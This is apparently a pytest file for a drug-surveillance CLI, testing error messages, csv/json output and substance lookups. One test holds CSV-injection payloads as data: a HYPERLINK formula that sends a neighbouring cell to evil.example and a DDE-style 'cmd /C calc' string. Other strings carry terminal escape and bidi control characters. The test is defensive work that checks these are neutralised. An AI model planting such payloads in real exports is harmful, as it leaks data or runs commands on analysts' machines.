"""Analysts' read commands: one line with a cause and a next step instead of a traceback, and csv / json
output that carries hostile report fields whole."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from synthwatch.cli.main import app
from synthwatch.cli.output import plural, to_json, write_csv
from synthwatch.settings import Settings
from synthwatch.stream_apps.detect.intake import Intake, RawMessage
from synthwatch.stream_apps.storage.clickhouse import migrate
from synthwatch.stream_apps.storage.sink import ClickHouseSink
from tests.conftest import cli_env, run_cli
from tests.support.delivery_helpers import make_alert
from tests.support.factories import lab

#: Every read command, as a user would type it.
READ_COMMANDS = [
    ("alerts",),
    ("stats",),
    ("sql", "SELECT count() FROM alerts"),
    ("substance", "Etonitazene"),
    ("deliveries",),
    ("rejects",),
    ("corrections",),
    ("report", "--out", "r.html"),
]
HOSTILE = 'comma, "quoted" and\nnew line\r\n; semicolon \x1b[31mred\x1b[0m \u202eevil'


def one_error_line(done: subprocess.CompletedProcess[str]) -> str:
    """The command failed with exactly one line on stderr, starting with ``error:``, and no traceback."""
    assert done.returncode != 0, done.stdout
    assert "Traceback" not in done.stdout + done.stderr, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), done.stderr
    return lines[0]


@pytest.mark.parametrize("command", READ_COMMANDS, ids=lambda c: c[0])
def test_no_data_directory_gives_one_line_and_the_next_step(command: tuple[str, ...], tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "typo")
    line = one_error_line(run_cli(settings, *command))
    assert f"no synthwatch data in {tmp_path / 'typo'}" in line
    assert "synthwatch up" in line and "SYNTHWATCH_DATA_DIR" in line
    assert not (tmp_path / "typo").exists(), "a read must not create an engine in a mistyped directory"


def test_a_data_dir_that_is_a_file(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    for command in (("alerts",), ("sql", "SELECT 1")):
        line = one_error_line(run_cli(Settings(data_dir=tmp_path / "file"), *command))
        assert "is a file, not a directory" in line and "SYNTHWATCH_DATA_DIR" in line


def test_an_engine_without_tables_says_to_migrate(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path)
    (tmp_path / "clickhouse").mkdir()  # an engine directory, no synthwatch tables in it
    for command in (("alerts",), ("stats",), ("substance", "Eto"), ("report", "--out", str(tmp_path / "r.html"))):
        line = one_error_line(run_cli(settings, *command))
        assert "there is no table" in line and "synthwatch db migrate" in line, command


def test_an_engine_held_by_another_process(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path)
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys; from synthwatch.stream_apps.storage.clickhouse import connect; "
            "from synthwatch.settings import Settings; "
            "c = connect(Settings()); print('held', flush=True); sys.stdin.read()",
        ],
        env=cli_env(settings),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        line = one_error_line(run_cli(settings, "alerts"))
        assert "open in another process" in line and "wait for it to finish" in line
    finally:
        assert holder.stdin is not None
        holder.stdin.close()
        holder.wait(60)


@pytest.fixture
def cli(ch: Any, ch_settings: Settings, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    """The real command line, in this process, on a migrated database of the session's engine."""
    migrate(ch)
    monkeypatch.setenv("SYNTHWATCH_DATA_DIR", str(ch_settings.data_dir))
    monkeypatch.setenv("SYNTHWATCH_CLICKHOUSE_DATABASE", ch_settings.clickhouse_database)
    return CliRunner()


def test_a_typo_in_a_column_names_the_column_and_a_suggestion(cli: CliRunner) -> None:
    done = cli.invoke(app, ["sql", "SELECT severty FROM alerts"])
    assert (done.exit_code == 1 and done.exception is None) or isinstance(done.exception, SystemExit)
    lines = done.output.strip().splitlines()
    assert len(lines) == 1, done.output
    assert "`severty`" in lines[0] and "severity" in lines[0] and "system.columns" in lines[0]
    assert "In scope" not in lines[0]  # the echoed statement is dropped: the user just typed it


def test_format_clause_is_refused_with_a_pointer_to_the_option(cli: CliRunner) -> None:
    done = cli.invoke(app, ["sql", "SELECT 1 AS n FORMAT CSV"])
    assert done.exit_code == 1
    assert "FORMAT CSV" in done.output and "--format csv" in done.output
    done = cli.invoke(app, ["sql", "SELECT 1 AS n", "--format", "csv"])
    assert done.exit_code == 0 and done.output == "n\n1\n"


def test_substance_did_you_mean(cli: CliRunner) -> None:
    done = cli.invoke(app, ["substance", "Eto"])
    assert done.exit_code == 2
    assert "no report of 'Eto' is stored; did you mean Etonitazene" in done.output
    assert "Etonitazepyne" in done.output and "etonitazepine" not in done.output  # synonyms shown as their name
    done = cli.invoke(app, ["substance", "cocain"])
    assert "did you mean Cocaine" in done.output
    done = cli.invoke(app, ["substance", "qqqzzz"])
    assert done.exit_code == 2 and "did you mean" not in done.output and "synthwatch stats" in done.output


def _store_one_report_and_a_hostile_alert(ch: Any) -> Any:
    now = datetime.now(UTC)
    record = lab(event_id="one", occurred_at=(now - timedelta(hours=2)).isoformat())
    batch = Intake().process([RawMessage("t:0:0", json.dumps(record))])
    assert len(batch.events) == 1
    alert = make_alert(alert_id="hostile-1", summary=HOSTILE)
    alert = alert.model_copy(update={"substance": alert.substance.model_copy(update={"name": 'a,b "c"\nd'})})
    sink = ClickHouseSink(ch)
    sink.store_events(batch.events)
    sink.store_alerts([alert])
    return alert


def test_csv_and_json_carry_hostile_fields_whole(cli: CliRunner, ch: Any) -> None:
    alert = _store_one_report_and_a_hostile_alert(ch)
    done = cli.invoke(app, ["alerts", "--format", "csv"])
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(io.StringIO(done.stdout_bytes.decode(), newline="")))  # .output folds \r\n
    assert len(rows) == 1
    assert rows[0]["summary"] == HOSTILE and rows[0]["substance_name"] == alert.substance.name
    assert rows[0]["alert_id"] == "hostile-1" and rows[0]["severity"] == "critical"

    done = cli.invoke(app, ["alerts", "--format", "json"])
    assert done.exit_code == 0, done.output
    assert "\x1b" not in done.output and "\u202e" not in done.output  # escaped in the JSON text...
    (item,) = json.loads(done.output)
    assert item["summary"] == HOSTILE and item["substance_name"] == alert.substance.name  # ...and exact in the data
    assert datetime.fromisoformat(item["triggered_at"]) is not None

    done = cli.invoke(app, ["sql", "SELECT summary FROM alerts", "--format", "json"])
    assert json.loads(done.output) == [{"summary": HOSTILE}]
    done = cli.invoke(app, ["sql", "SELECT summary, 1 AS n FROM alerts", "--format", "csv"])
    assert list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline=""))) == [["summary", "n"], [HOSTILE, "1"]]


#: A substance name a lab may send (no control character: the wire contract accepts it), which a spreadsheet
#: runs as a formula when a CSV cell starts with it: a click sends the row's neighbouring cell to the address.
FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"3-MMC")'


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(cli: CliRunner, ch: Any) -> None:
    """CSV injection: every read command's CSV goes through write_csv; a stored report's substance name that starts
    with = + - @ reaches the analyst's spreadsheet as text, and JSON (for programs) still carries it exactly."""
    names = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
    records = [lab(event_id=f"formula-{i}", substance={"name": name}) for i, name in enumerate(names)]
    batch = Intake().process([RawMessage(f"t:0:{i}", json.dumps(r)) for i, r in enumerate(records)])
    assert len(batch.events) == len(names), batch.rejects
    ClickHouseSink(ch).store_events(batch.events)
    query = "SELECT substance_name, -1 AS minus FROM lab_detections ORDER BY event_id"
    done = cli.invoke(app, ["sql", query, "--format", "csv"])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline="")))
    assert rows == [["substance_name", "minus"]] + [["'" + name, "-1"] for name in names]  # -1 a number: as is
    done = cli.invoke(app, ["sql", query, "--format", "json"])
    assert [r["substance_name"] for r in json.loads(done.output)] == names


def test_stats_wording_and_formats(cli: CliRunner, ch: Any) -> None:
    _store_one_report_and_a_hostile_alert(ch)
    done = cli.invoke(app, ["stats"])
    assert done.exit_code == 0, done.output
    assert "lab detections" in done.output and " labs " not in done.output
    assert "1 report over 1 region x substance row" in done.output and "1 reports" not in done.output
    (row,) = json.loads(cli.invoke(app, ["stats", "--format", "json"]).output)
    assert row["reports"] == 1 and row["lab_detections"] == 1 and row["region"] == "FR-75C"
    rows = list(csv.DictReader(io.StringIO(cli.invoke(app, ["stats", "--format", "csv"]).output)))
    assert [(r["region"], r["reports"]) for r in rows] == [("FR-75C", "1")]


def test_substance_and_deliveries_formats(cli: CliRunner, ch: Any) -> None:
    _store_one_report_and_a_hostile_alert(ch)
    done = cli.invoke(app, ["substance", "3-MMC", "--format", "json"])
    assert done.exit_code == 0, done.output
    history = json.loads(done.output)
    assert history["reports"] == 1 and [r["region"] for r in history["regions"]] == ["FR-75C"]
    done = cli.invoke(app, ["substance", "3-MMC", "--format", "csv", "--part", "months"])
    (month,) = list(csv.DictReader(io.StringIO(done.output)))
    assert month["reports"] == "1" and month["lab_detections"] == "1"
    assert "1 report" in cli.invoke(app, ["substance", "3-MMC"]).output
    done = cli.invoke(app, ["deliveries", "--format", "json"])
    assert done.exit_code == 0 and json.loads(done.output) == []
    done = cli.invoke(app, ["deliveries", "--format", "csv"])
    assert done.output.startswith("at,officer_id,alert_id,")
    assert cli.invoke(app, ["alerts", "--format", "xml"]).exit_code == 2


def test_rejects_formats_carry_the_refused_text_whole(cli: CliRunner, ch: Any) -> None:
    """A lab fixing its file reads the reasons in a spreadsheet: the raw record's hostile text arrives whole."""
    batch = Intake().process([RawMessage("lab.csv:7", json.dumps({"event_id": HOSTILE, "lab_id": "LAB-ML-01"}))])
    assert len(batch.rejects) == 1
    ClickHouseSink(ch).store_rejects(batch.rejects)
    (row,) = json.loads(cli.invoke(app, ["rejects", "--format", "json"]).output)
    assert row["source"] == "lab.csv:7" and row["reporter"] == "LAB-ML-01" and row["reason"]
    done = cli.invoke(app, ["rejects", "--format", "csv", "--lab", "LAB-ML-01"])
    (found,) = list(csv.DictReader(io.StringIO(done.stdout_bytes.decode(), newline="")))
    assert found["source"] == "lab.csv:7" and found["reason"] == row["reason"]
    assert cli.invoke(app, ["rejects", "--format", "csv", "--lab", "LAB-XX"]).output.strip() == ",".join(
        ("rejected_at", "stage", "source", "event_id", "reporter", "reason")
    )
    assert "1 reject" in cli.invoke(app, ["rejects"]).output


def test_plural_and_json_escaping() -> None:
    assert [plural(n, "report") for n in (0, 1, 2, 1204)] == ["0 reports", "1 report", "2 reports", "1,204 reports"]
    assert plural(1, "region x substance row") == "1 region x substance row"
    text = to_json({"s": "\x9b2J\u202e\u2066x\x7f é ملاحظة"})
    assert all(c not in text for c in "\x9b\u202e\u2066\x7f") and "é ملاحظة" in text
    assert json.loads(text) == {"s": "\x9b2J\u202e\u2066x\x7f é ملاحظة"}
    out = io.StringIO()
    write_csv(["a", "b"], [[None, ["x", 1]], [HOSTILE, 2.5]], out)
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["a", "b"],
        ["", '["x", 1]'],
        [HOSTILE, "2.5"],
    ]


HOMO_ETONITAZENE = "CCOc1ccc(Cc2nc3cc([N+](=O)[O-])ccc3n2CCCN(CC)CC)cc1"  # no SMARTS pattern matches it


def test_substance_shows_the_nearest_known_substances_and_a_family_guess(cli: CliRunner, ch: Any) -> None:
    now = datetime.now(UTC)
    records = [
        lab(
            event_id="homo",
            occurred_at=(now - timedelta(hours=3)).isoformat(),
            substance={"name": "Homo-eto", "smiles": HOMO_ETONITAZENE},
        ),
        lab(
            event_id="eto",
            occurred_at=(now - timedelta(hours=2)).isoformat(),
            substance={"name": "Etonitazene", "smiles": "CCOc1ccc(Cc2nc3cc([N+](=O)[O-])ccc3n2CCN(CC)CC)cc1"},
        ),
    ]
    batch = Intake().process([RawMessage(f"t:0:{i}", json.dumps(r)) for i, r in enumerate(records)])
    ClickHouseSink(ch).store_events(batch.events)

    learnt = json.loads(cli.invoke(app, ["substance", "Homo-eto", "--format", "json"]).output)
    assert [n["name"] for n in learnt["similar"]][:3] == ["Etonitazene", "Butonitazene", "Protonitazene"]
    assert learnt["similar"][0]["catalogued"] is True and learnt["family_guess"] == "nitazene"
    # a catalogued substance: its neighbours include the structure the network learnt, and no guess
    known = json.loads(cli.invoke(app, ["substance", "Etonitazene", "--format", "json"]).output)
    nearest = known["similar"][0]
    assert (nearest["name"], nearest["catalogued"], nearest["family"]) == ("Homo-eto", False, "")
    assert known["family_guess"] is None
    rows = list(
        csv.DictReader(
            io.StringIO(cli.invoke(app, ["substance", "Homo-eto", "--format", "csv", "--part", "similar"]).output)
        )
    )
    assert rows[0]["name"] == "Etonitazene" and float(rows[0]["score"]) == learnt["similar"][0]["score"]
    table = cli.invoke(app, ["substance", "Homo-eto"]).output
    assert "nearest known structures" in table and "family guess" in table and "Etonitazene" in table
